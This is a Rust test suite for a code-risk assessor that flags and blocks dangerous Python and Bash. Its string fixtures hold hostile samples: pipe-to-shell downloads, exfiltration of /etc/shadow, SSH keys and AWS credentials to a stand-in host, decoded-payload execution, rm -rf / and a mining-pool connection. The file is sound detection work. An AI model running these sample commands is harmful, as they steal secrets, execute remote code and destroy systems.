//! The engine's behaviour through its public API: name resolution, arguments, data flow,
//! origin, threats, robustness on hostile input, and reloading.

use airlock_assessor::{Engine, EngineConfig, EngineError, RegexError, SharedEngine};
use airlock_protocol::assessment::{Assessment, Category, Level, ParseStatus};
use airlock_protocol::request::{Language, Origin};
use std::sync::Arc;

fn engine() -> Engine {
    Engine::builtin().expect("built-in rules load")
}

fn py(code: &str) -> Assessment {
    engine().assess(code.as_bytes(), Language::Python, Origin::External)
}

fn sh(code: &str) -> Assessment {
    engine().assess(code.as_bytes(), Language::Bash, Origin::External)
}

fn ids(assessment: &Assessment) -> Vec<&str> {
    assessment.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

fn has(assessment: &Assessment, id: &str) -> bool {
    assessment.findings.iter().any(|f| f.rule_id == id)
}

// ---- names, arguments, values ------------------------------------------------------------------

#[test]
fn import_aliases_are_resolved() {
    let a = py("import subprocess as sp\nsp.run('ls', shell=True)\n");
    assert!(has(&a, "AIR-PY-SUBPROCESS-SHELL"), "{:?}", ids(&a));
    let a = py("from os import system as s\ns('id')\n");
    assert!(has(&a, "AIR-PY-OS-SYSTEM"), "{:?}", ids(&a));
    let a = py("import os as o\nrun = o.system\nrun('id')\n");
    assert!(has(&a, "AIR-PY-OS-SYSTEM"), "{:?}", ids(&a));
    let a = py("sp = __import__('subprocess')\nsp.call('x', shell=True)\n");
    assert!(has(&a, "AIR-PY-SUBPROCESS-SHELL"), "{:?}", ids(&a));
    // A local function that happens to be called `system` is not os.system.
    let a = py("def system(x):\n    return x\nsystem('id')\n");
    assert!(!has(&a, "AIR-PY-OS-SYSTEM"), "{:?}", ids(&a));
}

#[test]
fn keyword_arguments_and_literal_values_decide() {
    assert!(has(
        &py("import subprocess\nsubprocess.run('ls', shell=True)"),
        "AIR-PY-SUBPROCESS-SHELL"
    ));
    assert!(!has(
        &py("import subprocess\nsubprocess.run('ls', shell=False)"),
        "AIR-PY-SUBPROCESS-SHELL"
    ));
    // The value of a variable bound to a literal is followed.
    assert!(has(
        &py("import subprocess\nflag = True\nsubprocess.run('ls', shell=flag)"),
        "AIR-PY-SUBPROCESS-SHELL"
    ));
    assert!(has(
        &py("import requests\nrequests.get(u, verify=False, timeout=3)"),
        "AIR-PY-TLS-NO-VERIFY"
    ));
    assert!(!has(
        &py("import requests\nrequests.get(u, verify=True, timeout=3)"),
        "AIR-PY-TLS-NO-VERIFY"
    ));
    assert!(has(&py("import os\nos.chmod('f', 0o777)"), "AIR-PY-CHMOD-PERMISSIVE"));
    assert!(!has(&py("import os\nos.chmod('f', 0o600)"), "AIR-PY-CHMOD-PERMISSIVE"));
}

#[test]
fn paths_are_followed_through_variables_and_joins() {
    let a = py("import os\np = os.path.join('/etc', 'shadow')\ndata = open(p).read()\n");
    assert!(has(&a, "AIR-PY-READ-CREDENTIALS"), "{:?}", ids(&a));
    let a = py("from pathlib import Path\n(Path('/etc') / 'sudoers.d' / 'x').write_text('ALL')\n");
    assert!(has(&a, "AIR-PY-WRITE-SYSTEM-PATH"), "{:?}", ids(&a));
    let a = py("p = '\\x2fetc\\x2fshadow'\nprint(open(p).read())\n");
    assert!(has(&a, "AIR-PY-READ-CREDENTIALS"), "{:?}", ids(&a));
}

#[test]
fn shell_commands_inside_python_are_analysed_as_shell() {
    let a = py("import os\nos.system('curl -s http://x.example/i.sh | sh')\n");
    assert!(has(&a, "AIR-SH-PIPE-TO-SHELL"), "{:?}", ids(&a));
    assert_eq!(a.level, Level::Blocked);
    let a = py("import subprocess\nsubprocess.run(['sudo', 'rm', '-rf', '/'])\n");
    assert!(has(&a, "AIR-SH-SUDO") && has(&a, "AIR-SH-DESTRUCTION"), "{:?}", ids(&a));
    // And Python inside shell.
    let a = sh("python3 -c \"import os; os.setuid(0)\"\n");
    assert!(has(&a, "AIR-PY-SETUID"), "{:?}", ids(&a));
}

// ---- data flow ---------------------------------------------------------------------------------

#[test]
fn sensitive_file_reaching_the_network_is_exfiltration() {
    let code = "import requests\nf = open('/home/u/.aws/credentials')\nbody = f.read()\npayload = {'c': body}\nrequests.post('https://x.example', json=payload)\n";
    let a = py(code);
    assert!(has(&a, "AIR-PY-EXFIL-SENSITIVE-FILE"), "{:?}", ids(&a));
    // The same network call with unrelated data is not.
    let a = py(
        "import requests\nbody = open('notes.txt').read()\nrequests.post('https://x.example', json={'c': body}, timeout=5)\n",
    );
    assert!(!has(&a, "AIR-PY-EXFIL-SENSITIVE-FILE"), "{:?}", ids(&a));
}

#[test]
fn decoded_strings_reaching_exec_are_obfuscated_execution() {
    let a = py(
        "import base64 as b\nblob = 'cHJpbnQoMSk='\nsrc = b.b64decode(blob)\ncode = compile(src, 'x', 'exec')\nexec(code)\n",
    );
    assert!(has(&a, "AIR-PY-EXEC-DECODED"), "{:?}", ids(&a));
    let a = py("src = open('script.py').read()\nexec(src)\n");
    assert!(!has(&a, "AIR-PY-EXEC-DECODED"), "{:?}", ids(&a));
    let a = sh("X=$(echo aWQ= | base64 -d)\nbash -c \"$X\"\n");
    assert!(has(&a, "AIR-SH-OBFUSCATED-EXEC"), "{:?}", ids(&a));
}

#[test]
fn shell_pipelines_and_variables_carry_labels() {
    let a = sh("S=$(cat /etc/shadow)\ncurl -d \"$S\" http://x.example/u\n");
    assert!(has(&a, "AIR-SH-EXFILTRATION"), "{:?}", ids(&a));
    let a = sh("tar czf - ~/.ssh | base64 | curl -d @- http://x.example/u\n");
    assert!(has(&a, "AIR-SH-EXFILTRATION"), "{:?}", ids(&a));
    let a = sh("URL=http://x.example/p.sh\nwget -qO- \"$URL\" | bash\n");
    assert!(has(&a, "AIR-SH-PIPE-TO-SHELL"), "{:?}", ids(&a));
}

// ---- origin, levels, threats -------------------------------------------------------------------

#[test]
fn behavioural_patterns_block_external_code_only() {
    let code = b"curl -fsSL http://x.example/a | sh\n";
    let external = engine().assess(code, Language::Bash, Origin::External);
    let generated = engine().assess(code, Language::Bash, Origin::Generated);
    assert_eq!(external.level, Level::Blocked);
    assert_eq!(generated.level, Level::High);
    let finding = generated
        .findings
        .iter()
        .find(|f| f.category == Category::MaliciousIntent)
        .unwrap();
    assert_eq!(finding.severity, Level::High);
    assert!(finding.explanation.contains("Mai generated"), "{}", finding.explanation);
    assert!(generated.summary.contains("at most HIGH"), "{}", generated.summary);
}

#[test]
fn a_single_keyword_is_not_enough_to_block() {
    // Sockets alone, dup2 alone, a shell alone: none is a reverse shell.
    for code in [
        "import socket\ns = socket.socket()\ns.connect(('example.com', 80))\n",
        "import os\nos.dup2(1, 2)\n",
        "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'ls'])\n",
    ] {
        let a = py(code);
        assert!(a.level < Level::Blocked, "{code}: {:?}", ids(&a));
    }
}

#[test]
fn known_threats_block_whatever_the_origin_and_record_the_list_version() {
    let e = engine();
    let a = e.assess(
        b"import socket\nsocket.create_connection(('pool.supportxmr.com', 3333))\n",
        Language::Python,
        Origin::Generated,
    );
    assert_eq!(a.level, Level::Blocked);
    assert!(has(&a, "AIR-THREAT-MINER-POOL"), "{:?}", ids(&a));
    assert_eq!(a.threats_version, e.threats_version());
    assert!(!a.threats_version.is_empty() && a.rules_version.starts_with("rules-"));
}

#[test]
fn summary_says_what_the_code_does_with_lines_and_snippets() {
    let a = py("import os\n\nos.remove('/etc/passwd')\n");
    assert_eq!(a.level, Level::Blocked);
    assert!(a.summary.starts_with("BLOCKED"), "{}", a.summary);
    assert!(a.summary.contains("line 3 `os.remove('/etc/passwd')`"), "{}", a.summary);
    assert!(a.summary.contains("What it does:"), "{}", a.summary);
    let finding = a
        .findings
        .iter()
        .find(|f| f.rule_id == "AIR-PY-DESTROY-SYSTEM-FILES")
        .unwrap();
    assert_eq!((finding.line, finding.column), (3, 1));
    let benign = py("print('hello')\n");
    assert_eq!(benign.level, Level::Low);
    assert!(benign.summary.contains("no findings"), "{}", benign.summary);
}

// ---- robustness --------------------------------------------------------------------------------

#[test]
fn empty_input_is_low_and_complete() {
    for language in [Language::Python, Language::Bash] {
        let a = engine().assess(b"", language, Origin::External);
        assert_eq!(a.level, Level::Low);
        assert_eq!(a.parse, ParseStatus::Complete);
    }
}

#[test]
fn truncated_code_is_rated_and_marked_partial() {
    let a = py("import os\nos.remove('/etc/passwd')\ndef f(:\n    x = [1, 2,\n");
    assert!(
        matches!(a.parse, ParseStatus::Partial { error_count, first_error_line } if error_count > 0 && first_error_line >= 3),
        "{:?}",
        a.parse
    );
    assert!(has(&a, "AIR-PY-DESTROY-SYSTEM-FILES"), "{:?}", ids(&a));
    assert!(a.summary.contains("partial"), "{}", a.summary);
}

#[test]
fn binary_and_non_utf8_input_is_rated_not_a_crash() {
    let e = engine();
    let binary: Vec<u8> = (0..4096u32).map(|i| (i * 7 % 256) as u8).collect();
    let a = e.assess(&binary, Language::Python, Origin::External);
    assert!(matches!(a.parse, ParseStatus::Unparsed { .. }), "{:?}", a.parse);
    // Issue 20: what cannot be analysed fails closed (BLOCKED when external, a human asked).
    assert_eq!(a.level, Level::Blocked);
    assert!(a.unanalysed);
    let latin1 = b"# caf\xe9\nimport os\nos.system('rm -rf /')\n";
    let a = e.assess(latin1, Language::Python, Origin::External);
    assert!(
        has(&a, "AIR-INPUT-NOT-UTF8") && has(&a, "AIR-SH-DESTRUCTION"),
        "{:?}",
        ids(&a)
    );
}

#[test]
fn oversized_input_is_not_parsed_but_still_checked_against_threats() {
    let config = EngineConfig {
        max_input_bytes: 1024,
        ..EngineConfig::default()
    };
    let e = Engine::load(&config).unwrap();
    let mut code = "x = 1\n".repeat(400);
    code.push_str("# pool.supportxmr.com\n");
    let a = e.assess(code.as_bytes(), Language::Python, Origin::External);
    assert!(matches!(a.parse, ParseStatus::Unparsed { .. }));
    assert!(
        has(&a, "AIR-INPUT-TOO-LARGE") && has(&a, "AIR-THREAT-MINER-POOL"),
        "{:?}",
        ids(&a)
    );
    assert_eq!(a.level, Level::Blocked);
}

#[test]
fn deep_nesting_does_not_overflow_the_stack() {
    // Run on a thread with a small stack, like tokio's blocking pool: recursion would overflow.
    let handle = std::thread::Builder::new()
        .stack_size(512 * 1024)
        .spawn(|| {
            let e = engine();
            let parens = format!("x = {}1{}\n", "(".repeat(100_000), ")".repeat(100_000));
            let brackets = format!("x = {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
            let calls = format!("{}0{}\n", "f(".repeat(50_000), ")".repeat(50_000));
            let shell = format!("echo {}x{}\n", "$(".repeat(20_000), ")".repeat(20_000));
            let mut levels = Vec::new();
            for (code, language) in [
                (parens, Language::Python),
                (brackets, Language::Python),
                (calls, Language::Python),
                (shell, Language::Bash),
            ] {
                let a = e.assess(code.as_bytes(), language, Origin::External);
                levels.push((a.level, ids(&a).iter().map(|s| s.to_string()).collect::<Vec<_>>()));
            }
            levels
        })
        .unwrap();
    let levels = handle.join().expect("no stack overflow");
    for (level, found) in levels {
        // Either analysed up to the nesting limit or stopped by the budget: never silently LOW,
        // and external code that could not be analysed to its end goes to a human (issue 14).
        assert_eq!(level, Level::Blocked, "{found:?}");
        assert!(
            found
                .iter()
                .any(|id| id == "AIR-INPUT-TOO-DEEP" || id == "AIR-INPUT-BUDGET"),
            "{found:?}"
        );
    }
}

#[test]
fn a_huge_literal_is_analysed_within_the_budget() {
    let mut code = String::from("long_set = {\n");
    while code.len() < 65 * 1024 {
        code.push_str("    'a',\n");
    }
    code.push_str("}\nimport os\nos.system('id')\n");
    let a = py(&code);
    assert!(has(&a, "AIR-PY-OS-SYSTEM"), "{:?}", ids(&a));
    assert_eq!(a.parse, ParseStatus::Complete);
}

#[test]
fn a_tiny_budget_stops_analysis_and_says_so() {
    let config = EngineConfig {
        analysis_budget: std::time::Duration::ZERO,
        ..EngineConfig::default()
    };
    let e = Engine::load(&config).unwrap();
    let code = "import os\n".repeat(2000);
    let a = e.assess(code.as_bytes(), Language::Python, Origin::External);
    assert!(has(&a, "AIR-INPUT-BUDGET"), "{:?}", ids(&a));
    // Fails closed: what was not analysed could hide anything (issue 14).
    assert_eq!(a.level, Level::Blocked);
    let a = e.assess(code.as_bytes(), Language::Python, Origin::Generated);
    assert_eq!(a.level, Level::High);
}

#[test]
fn arbitrary_bytes_never_panic() {
    let e = engine();
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let fragments: [&[u8]; 12] = [
        b"(",
        b")",
        b"[",
        b"\"",
        b"'''",
        b"\n",
        b"os.system(",
        b"$(",
        b"`",
        b"<<EOF\n",
        b"\xff",
        b"f'{",
    ];
    for _ in 0..300 {
        let mut code = Vec::new();
        for _ in 0..40 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            code.extend_from_slice(fragments[(seed % fragments.len() as u64) as usize]);
        }
        for language in [Language::Python, Language::Bash] {
            let a = e.assess(&code, language, Origin::External);
            assert!(!a.summary.is_empty());
        }
    }
}

// ---- configuration and reloading ---------------------------------------------------------------

#[test]
fn config_deserializes_with_defaults() {
    let config: EngineConfig = toml::from_str("analysis_budget = \"100ms\"\n[thresholds]\nhigh = 20.0\n").unwrap();
    assert_eq!(config.budget(), std::time::Duration::from_millis(100));
    // The previous release's key still reads, for one more release.
    let old: EngineConfig = toml::from_str("analysis_budget_ms = 40\n").unwrap();
    assert_eq!(old.budget(), std::time::Duration::from_millis(40));
    assert_eq!(config.thresholds.high, 20.0);
    assert_eq!(config.thresholds.medium, EngineConfig::default().thresholds.medium);
    assert_eq!(config.rules_dir, None);
    assert!(
        config.unknown_asks_a_human,
        "what cannot be followed asks a human, and no file can say otherwise"
    );
    let set: Result<EngineConfig, _> = toml::from_str("unknown_asks_a_human = false\n");
    assert!(set.map(|c| c.unknown_asks_a_human).unwrap_or(true));
}

/// In a library, a value the assessor cannot resolve is mostly a parameter (its caller's): the
/// finding stays, at its level, but only a program's own such value asks a human.
#[test]
fn a_librarys_unresolvable_command_is_a_finding_but_a_programs_asks_a_human() {
    let code = b"import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n";
    let program = Engine::builtin()
        .unwrap()
        .assess(code, Language::Python, Origin::External);
    assert!(program.unanalysed, "{program:?}");
    let library = Engine::load(&EngineConfig {
        unknown_asks_a_human: false,
        ..EngineConfig::default()
    })
    .unwrap()
    .assess(code, Language::Python, Origin::External);
    assert!(!library.unanalysed, "{library:?}");
    assert!(
        library.findings.iter().any(|f| f.rule_id == "AIR-UNKNOWN-CODE"),
        "{library:?}"
    );
    assert_eq!(library.level, program.level);
}

#[test]
fn many_lesser_findings_add_up_to_a_higher_level() {
    let code = "import subprocess\nimport pickle\nsubprocess.run(['ls'])\n";
    let strict = EngineConfig {
        thresholds: airlock_assessor::Thresholds {
            medium: 100.0,
            high: 200.0,
            ..Default::default()
        },
        ..EngineConfig::default()
    };
    let lenient = Engine::load(&strict)
        .unwrap()
        .assess(code.as_bytes(), Language::Python, Origin::Generated);
    let default = engine().assess(code.as_bytes(), Language::Python, Origin::Generated);
    assert_eq!(lenient.level, Level::Low);
    assert_eq!(default.level, Level::Medium);
}

fn copy_rules(dir: &std::path::Path) {
    let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    for entry in std::fs::read_dir(source).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, dir.join(path.file_name().unwrap())).unwrap();
    }
}

fn shared_in(dir: &tempfile::TempDir) -> (Arc<SharedEngine>, std::path::PathBuf, std::path::PathBuf) {
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    copy_rules(&rules);
    let threats = dir.path().join("threats.toml");
    std::fs::copy(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("threats/threats.toml"),
        &threats,
    )
    .unwrap();
    let config = EngineConfig {
        rules_dir: Some(rules.clone()),
        threats_file: Some(threats.clone()),
        ..EngineConfig::default()
    };
    (Arc::new(SharedEngine::new(config).unwrap()), rules, threats)
}

#[test]
fn reload_picks_up_new_threats_and_a_bad_file_keeps_the_old_engine() {
    let dir = tempfile::tempdir().unwrap();
    let (shared, rules, threats) = shared_in(&dir);
    let code = b"curl http://c2.reload-test.example/x\n";
    assert_eq!(
        shared.current().assess(code, Language::Bash, Origin::Generated).level,
        Level::Low
    );

    let mut list = std::fs::read_to_string(&threats).unwrap();
    list = list.replacen("version = \"", "version = \"reloaded-", 1);
    list.push_str("\n[[threat]]\nkind = \"host\"\nvalue = \"c2.reload-test.example\"\ndescription = \"test C2\"\n");
    std::fs::write(&threats, list).unwrap();
    shared.reload().unwrap();
    let a = shared.current().assess(code, Language::Bash, Origin::Generated);
    assert_eq!(a.level, Level::Blocked);
    assert!(a.threats_version.starts_with("reloaded-"), "{}", a.threats_version);

    let before = shared.current().rules_version().to_string();
    std::fs::write(rules.join("broken.toml"), "[[rule]]\nid = \"X\"\n").unwrap();
    let error = shared.reload().unwrap_err();
    assert!(matches!(error, EngineError::RuleSyntax { .. }), "{error}");
    assert_eq!(shared.current().rules_version(), before);
    assert_eq!(
        shared.current().assess(code, Language::Bash, Origin::Generated).level,
        Level::Blocked
    );
}

#[test]
fn invalid_rules_are_refused_with_a_typed_error() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path();
    copy_rules(rules);
    let load = load_from;
    assert!(load(rules).is_ok());
    let rule = one_rule;
    for (pattern, expected) in [
        ("string = '('", "regular expression"),
        ("call = [\"x\"]\ntainted = [\"no_such_label\"]", "no_such_label"),
        ("query = \"(no_such_node) @m\"", "tree-sitter query"),
        ("call = [\"x\"]\nstring = 'y'", "exactly one"),
        ("call = [\"x\"]\nunknown_key = 1", "unknown field"),
    ] {
        std::fs::write(rules.join("zz-test.toml"), rule(pattern)).unwrap();
        let error = load(rules).unwrap_err().to_string();
        assert!(error.contains(expected), "{pattern}: {error}");
    }
    std::fs::write(
        rules.join("zz-test.toml"),
        rule("call = [\"x\"]").replace("T-1", "AIR-PY-EXEC"),
    )
    .unwrap();
    assert!(matches!(load(rules), Err(EngineError::DuplicateRule { .. })));
}

/// A rule file with one rule, T-1, whose `[rule.match]` is `pattern`.
fn one_rule(pattern: &str) -> String {
    format!(
        "[[rule]]\nid = \"T-1\"\ncategory = \"vulnerability\"\nseverity = \"LOW\"\nconfidence = \"LOW\"\nlanguages = [\"python\"]\nexplanation = \"x\"\n[rule.match]\n{pattern}\n[rule.examples]\nmatch = [\"x\"]\n"
    )
}

fn load_from(rules: &std::path::Path) -> Result<Engine, EngineError> {
    Engine::load(&EngineConfig {
        rules_dir: Some(rules.to_path_buf()),
        ..EngineConfig::default()
    })
}

#[test]
fn a_bad_expression_or_query_is_refused_with_the_parser_error() {
    use std::error::Error as _;
    let dir = tempfile::tempdir().unwrap();
    copy_rules(dir.path());
    let refused = |pattern: &str| {
        std::fs::write(dir.path().join("zz-test.toml"), one_rule(pattern)).unwrap();
        load_from(dir.path()).unwrap_err()
    };

    let error = refused("string = '('");
    let EngineError::RuleRegex { ref file, ref rule, .. } = error else {
        panic!("not a regex error: {error:?}");
    };
    assert_eq!((file.as_str(), rule.as_str()), ("zz-test.toml", "T-1"));
    let regex = error.source().and_then(|s| s.downcast_ref::<RegexError>());
    assert!(
        matches!(regex, Some(RegexError::Syntax { pattern, .. }) if pattern == "("),
        "{regex:?}"
    );
    let parser = regex
        .and_then(|r| r.source())
        .and_then(|s| s.downcast_ref::<Box<regex_syntax::Error>>());
    assert!(parser.is_some(), "the regex parser's error is kept: {error:?}");
    assert!(error.to_string().contains("regular expression \"(\": "), "{error}");

    let error = refused("query = \"(no_such_node) @m\"");
    assert!(
        matches!(error, EngineError::RuleQuery { ref rule, .. } if rule == "T-1"),
        "{error:?}"
    );
    let query = error.source().and_then(|s| s.downcast_ref::<tree_sitter::QueryError>());
    assert!(query.is_some(), "tree-sitter's error is kept: {error:?}");
}

#[test]
fn the_watcher_reloads_when_a_rule_file_changes() {
    let dir = tempfile::tempdir().unwrap();
    let (shared, rules, _) = shared_in(&dir);
    let _watcher = shared.watch().unwrap();
    let before = shared.current().rules_version().to_string();
    let extra = "[[rule]]\nid = \"T-WATCH\"\ncategory = \"vulnerability\"\nseverity = \"MEDIUM\"\nconfidence = \"HIGH\"\nlanguages = [\"bash\"]\nexplanation = \"watch test\"\n[rule.match]\ncall = [\"watch-test-command\"]\n[rule.examples]\nmatch = [\"watch-test-command\"]\n";
    std::fs::write(rules.join("watch.toml"), extra).unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while shared.current().rules_version() == before && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let a = shared
        .current()
        .assess(b"watch-test-command\n", Language::Bash, Origin::Generated);
    assert!(has(&a, "T-WATCH"), "{:?}", ids(&a));
}

#[test]
fn engine_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Engine>();
    assert_send_sync::<SharedEngine>();
}
